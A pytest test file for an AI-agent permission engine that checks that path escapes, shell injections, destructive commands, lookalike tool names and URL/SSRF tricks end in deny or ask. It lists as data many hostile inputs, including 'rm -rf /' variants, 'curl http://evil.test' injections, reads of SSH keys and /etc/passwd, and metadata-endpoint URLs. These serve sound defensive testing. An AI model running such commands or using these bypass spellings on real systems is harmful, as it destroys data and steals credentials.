"""Attack tests: each trick must end in deny or ask, never allow."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from agentguard.models import Effect
from agentguard.policy import PolicyEngine

from .conftest import EXAMPLES, PERMISSIONS, decide

# ---------------------------------------------------------------- paths

PATH_RULES = """
p, *, fs.read, path(path, "{workspace}/**"), allow
p, *, fs.write, path(path, "{workspace}/**"), ask
"""


@pytest.fixture
def path_engine(engine_for: Callable[..., PolicyEngine], workspace: Path, tmp_path: Path) -> PolicyEngine:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("top secret")
    (workspace / "escape").symlink_to(outside, target_is_directory=True)
    (workspace / "src" / "innocent.txt").symlink_to(outside / "secret.txt")
    (workspace / "loop").symlink_to(workspace / "loop")
    (workspace / "inside-link").symlink_to(workspace / "src")
    return engine_for(PATH_RULES)


def test_paths_inside_the_workspace_are_allowed(path_engine: PolicyEngine, workspace: Path) -> None:
    for path in [
        "src/app.py",
        str(workspace / "src" / "app.py"),
        "./src/../src/app.py",
        "inside-link/app.py",
        ".",
    ]:
        assert decide(path_engine, "fs.read", path=path).effect is Effect.ALLOW, path


@pytest.mark.parametrize(
    "path",
    [
        "../outside/secret.txt",
        "src/../../outside/secret.txt",
        "/etc/passwd",
        "//etc/passwd",
        "escape/secret.txt",  # directory symlink pointing out
        "src/innocent.txt",  # file symlink pointing out
        "escape",
        "loop/x",
        "src/app.py\x00.txt",
        "",
        "~/x",
        "~root/.ssh/id_rsa",
    ],
)
def test_path_escapes_are_never_allowed(path_engine: PolicyEngine, path: str) -> None:
    decision = decide(path_engine, "fs.read", path=path)
    assert decision.effect is Effect.DENY, decision.reason
    assert decide(path_engine, "fs.write", path=path, content="x").effect is Effect.DENY


def test_absolute_spellings_of_outside(path_engine: PolicyEngine, workspace: Path) -> None:
    for path in [
        f"{workspace}/../outside/secret.txt",
        f"{workspace}/./../outside/secret.txt",
        f"{workspace}//..//outside/secret.txt",
        f"{workspace}-sibling/x",
        f"{workspace}x/y",
        str(workspace.parent),
    ]:
        assert decide(path_engine, "fs.read", path=path).effect is Effect.DENY, path


def test_non_string_paths_never_match(path_engine: PolicyEngine) -> None:
    for value in [None, 1, ["src/app.py"], {"p": "src/app.py"}, b"src/app.py", True]:
        assert decide(path_engine, "fs.read", path=value).effect is Effect.DENY, value


def test_workspace_with_glob_characters_is_literal(make_policy: Callable[..., Path], tmp_path: Path) -> None:
    ws = tmp_path / "ws[1]*{a,b}"
    ws.mkdir()
    sibling = tmp_path / "ws1"
    sibling.mkdir()
    engine = PolicyEngine.load(make_policy(PATH_RULES), workspace=ws)
    assert decide(engine, "fs.read", path="x.py").effect is Effect.ALLOW
    assert decide(engine, "fs.read", path=str(sibling / "x.py")).effect is Effect.DENY
    assert decide(engine, "fs.read", path=str(tmp_path / "wsa" / "x.py")).effect is Effect.DENY


def test_symlink_swapped_after_load_is_seen(
    path_engine: PolicyEngine, workspace: Path, tmp_path: Path
) -> None:
    link = workspace / "later"
    link.symlink_to(workspace / "src")
    assert decide(path_engine, "fs.read", path="later/app.py").effect is Effect.ALLOW
    link.unlink()
    link.symlink_to(tmp_path / "outside")
    assert decide(path_engine, "fs.read", path="later/secret.txt").effect is Effect.DENY


def test_home_deny_wins_even_when_workspace_is_home(make_policy: Callable[..., Path], tmp_path: Path) -> None:
    home = Path(os.path.realpath(Path.home()))
    engine = PolicyEngine.load(PERMISSIONS, workspace=home)
    assert decide(engine, "fs.read", path=".ssh/id_rsa").effect is Effect.DENY
    assert decide(engine, "fs.read", path=str(home / ".aws" / "credentials")).effect is Effect.DENY
    assert decide(engine, "fs.write", path=".agentguard/grants.csv", content="x").effect is Effect.DENY


# ---------------------------------------------------------------- shell


@pytest.fixture(scope="module")
def shell_engine(tmp_path_factory: pytest.TempPathFactory) -> PolicyEngine:
    return PolicyEngine.load(PERMISSIONS, workspace=tmp_path_factory.mktemp("ws"))


@pytest.mark.parametrize(
    "command",
    [
        "git status && rm -rf ~",
        "git status; curl http://evil.test",
        "git status || curl http://evil.test",
        "git status | sh",
        "git status & curl http://evil.test",
        "git status\ncurl http://evil.test",
        "git status $(curl http://evil.test)",
        'git status "$(curl http://evil.test)"',
        "git status `curl http://evil.test`",
        "git status <(curl http://evil.test)",
        "git status > /etc/passwd",
        "git status 2>/tmp/x",
        "git status &>/tmp/x",
        "git log >> ~/.bashrc",
        "(git status; curl x)",
        "{ git status; curl x; }",
        "git status $HOME",
        "git status ${IFS}",
        "git $(echo status)",
        "GIT_EXTERNAL_DIFF=/tmp/x git diff",
        "git diff --ext-diff",
        "git log --output=/tmp/pwned",
        "git -c core.pager=sh log",
        "ls; python -c 'import os'",
        "git status 'unterminated",
        "/usr/bin/git status",
        "git status\\\n; curl x",
        "eval git status",
    ],
)
def test_shell_tricks_are_not_allowed(shell_engine: PolicyEngine, command: str) -> None:
    decision = decide(shell_engine, "shell.run", command=command)
    assert decision.effect in (Effect.ASK, Effect.DENY), (command, decision.reason)


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        "rm -rfv /",
        "rm -r -f /",
        "rm --recursive --force /",
        "ls; rm -rf /",
        "ls && rm -rf /",
        "echo $(rm -rf /)",
        "echo `rm -rf /`",
        'echo "$(rm -rf /)"',
        "/bin/rm -rf /",
        "\\rm -rf /",
        "'rm' -rf /",
        'r""m -rf /',
        "sh -c 'rm -rf /'",
        'bash -lc "rm -rf /"',
        "eval 'rm -rf /'",
        "if true; then rm -rf /; fi",
        "find . -exec rm -rf {} \\;",
        "ls | xargs rm -rf",
        "X=1 rm -rf /",
        "env -i rm -rf /",
        "nohup rm -rf / &",
        "timeout 5 rm -rf /",
        "{ rm -rf /; }",
        "$CMD -rf /",
        "sudo ls",
        "sudo -u root id",
        "echo x | sudo tee /etc/hosts",
        "git push --force origin main",
        "echo 'unbalanced",
    ],
)
def test_destructive_commands_are_denied(shell_engine: PolicyEngine, command: str) -> None:
    decision = decide(shell_engine, "shell.run", command=command)
    assert decision.effect is Effect.DENY, (command, decision.reason)


@pytest.mark.parametrize(
    "command",
    ["git status", "git status -s", "git log --oneline -5", "ls -la", "pwd", "git diff HEAD -- src"],
)
def test_plain_read_only_commands_are_allowed(shell_engine: PolicyEngine, command: str) -> None:
    assert decide(shell_engine, "shell.run", command=command).effect is Effect.ALLOW


def test_quoted_operators_are_data(shell_engine: PolicyEngine) -> None:
    assert decide(shell_engine, "shell.run", command="ls -la 'a; rm -rf /'").effect is Effect.ALLOW
    assert decide(shell_engine, "shell.run", command="ls -la '$(x)'").effect is Effect.ALLOW
    assert decide(shell_engine, "shell.run", command='ls -la "$(x)"').effect is Effect.ASK


def test_non_string_commands(shell_engine: PolicyEngine) -> None:
    for value in [["rm", "-rf", "/"], None, 3]:
        assert decide(shell_engine, "shell.run", command=value).effect is Effect.DENY, value


# ---------------------------------------------------------------- tool names


@pytest.fixture(scope="module")
def default_engine(tmp_path_factory: pytest.TempPathFactory) -> PolicyEngine:
    return PolicyEngine.load(PERMISSIONS, workspace=tmp_path_factory.mktemp("ws"))


@pytest.mark.parametrize("tool", ["FS.READ", "Fs.Read", "fs.READ"])
def test_case_variants_match_the_same_rules(default_engine: PolicyEngine, tool: str) -> None:
    canonical = decide(default_engine, "fs.read", path="src/x.py")
    variant = decide(default_engine, tool, path="src/x.py")
    assert variant.effect is canonical.effect is Effect.ALLOW
    assert variant.rule == canonical.rule
    assert variant.matched == canonical.matched
    http = decide(
        default_engine, tool.replace("FS.READ", "HTTP.GET").replace("s.R", "ttp.G"), url="https://x.test"
    )
    assert http.effect is Effect.DENY


@pytest.mark.parametrize(
    "tool",
    [
        "fs.re\u0430d",  # Cyrillic a
        "fs.read\u200b",  # zero-width space
        "\u200bfs.read",
        "\uff46\uff53.read",  # full-width fs
        "fs\uff0eread",  # full-width dot
        "fs.read\n",
        " fs.read",
        "fs.read\x00",
        "",
        "f" * 300,
        "fs read",
        "fs.rea\u0301d",
    ],
)
def test_lookalike_tool_names_are_denied(default_engine: PolicyEngine, tool: str) -> None:
    decision = decide(default_engine, tool, path="src/x.py")
    assert decision.effect is Effect.DENY
    assert decision.rule is None
    assert "invalid tool name" in decision.reason


# ---------------------------------------------------------------- URLs


@pytest.fixture(scope="module")
def web_engine(tmp_path_factory: pytest.TempPathFactory) -> PolicyEngine:
    return PolicyEngine.load(EXAMPLES / "web-research", workspace=tmp_path_factory.mktemp("ws"))


@pytest.mark.parametrize(
    "url",
    [
        "https://docs.python.org@evil.test/",
        "https://docs.python.org:443@evil.test/",
        "https://user:pass@evil.test/docs.python.org/",
        "https://evil.test\\@docs.python.org/",
        "https://evil.test#@docs.python.org/",
        "https://evil.test?@docs.python.org/",
        "https://docs.python.org.evil.test/",
        "https://docs.python.org.evil.test./",
        "https://evildocs.python.org/",
        "https://docs.python.org:8443/3/",
        "https://docs.python.org:80/3/",
        "http://docs.python.org/3/",
        "ftp://docs.python.org/3/",
        "HTTPS://evil.test/",
        "https://DOCS.PYTHON.ORG.evil.test/",
        "https://d\u043ecs.python.org/",  # Cyrillic o
        "https://docs.python\uff0eorg/",  # full-width dot
        "https://docs.python\u3002org/",  # ideographic full stop
        "https://docs.python.org\u200b/",
        "https://docs.pyth\u00f6n.org/",
        "https://docs.python.org /",
        "https://docs.python.org\t/",
        "https://docs.python.org:99999/",
        "https://docs.python.org:-1/",
        "https://[docs.python.org]/",
        "//docs.python.org/3/",
        "docs.python.org/3/",
        "https:///docs.python.org/",
        "https://wikipedia.org/",
        "https://en.wikipedia.org.evil.test/",
        "https://pypi.org/simple/",
        "https://pypi.org/project/../simple/x",
        "https://pypi.org/project/%2e%2e/simple/",
        "https://pypi.org/project/..%2fsimple/",
        "http://localhost:8000/",
        "http://127.0.0.1/",
        "http://2130706433/",
        "http://0x7f.0.0.1/",
        "http://127.1/",
        "http://[::1]:8080/",
        "http://169.254.169.254/latest/meta-data/",
        "https://docs.python.org/3/?token=ghp_" + "a" * 36,
        "https://docs.python.org/3/?mail=alice@example.com",
        "",
    ],
)
def test_url_tricks_are_not_allowed(web_engine: PolicyEngine, url: str) -> None:
    decision = decide(web_engine, "http.get", "web-agent", url=url)
    assert decision.effect in (Effect.DENY, Effect.ASK), (url, decision.reason)


@pytest.mark.parametrize(
    "url",
    [
        "https://docs.python.org/3/library/re.html",
        "https://DOCS.Python.ORG/3/",
        "https://docs.python.org:443/3/",
        "https://docs.python.org./3/",
        "https://en.wikipedia.org/wiki/Glob",
        "https://pypi.org/project/pycasbin/",
    ],
)
def test_allowlisted_urls_pass(web_engine: PolicyEngine, url: str) -> None:
    assert decide(web_engine, "http.get", "web-agent", url=url).effect is Effect.ALLOW, url


def test_internal_addresses_are_denied_not_just_unlisted(web_engine: PolicyEngine) -> None:
    for url in [
        "http://2130706433:8080/",
        "http://0x7f.1/",
        "http://LOCALHOST:3000/",
        "https://[::1]/",
        "http://[::ffff:127.0.0.1]:80/",
        "http://[0:0:0:0:0:0:0:1]/",
    ]:
        decision = decide(web_engine, "http.get", "web-agent", url=url)
        assert decision.effect is Effect.DENY
        assert decision.rule is not None, url  # the explicit deny, not only the default


# ---------------------------------------------------------------- hostile sizes


@pytest.mark.parametrize(
    "command",
    [
        "sudo " * 900 + "ls",
        "echo " + "$(" * 40 + "x" + ")" * 40,
        "echo " + "`" * 41,
        "x " * 1500,
        "a" * 100_001,
        "(" * 5000 + "ls" + ")" * 5000,
    ],
    ids=["wrappers", "nested-substitutions", "backticks", "many-words", "too-long", "deep-subshells"],
)
def test_hostile_commands_are_decided_quickly(shell_engine: PolicyEngine, command: str) -> None:
    import time

    started = time.monotonic()
    decision = decide(shell_engine, "shell.run", command=command)
    assert time.monotonic() - started < 5
    assert decision.effect in (Effect.ASK, Effect.DENY)


def test_deeply_nested_condition_is_a_policy_error(make_policy: Callable[..., Path], tmp_path: Path) -> None:
    from agentguard.errors import PolicyError

    deep = "!" * 5000 + 'eq(a, "b")'
    with pytest.raises(PolicyError, match=r"nests too deeply|longer than"):
        PolicyEngine.load(make_policy(f"p, *, t, {deep}, allow"), workspace=tmp_path)
    wide = "(" * 3000 + 'eq(a, "b")' + ")" * 3000
    with pytest.raises(PolicyError, match=r"nests too deeply|longer than"):
        PolicyEngine.load(make_policy(f"p, *, t, {wide}, allow", name="wide"), workspace=tmp_path)
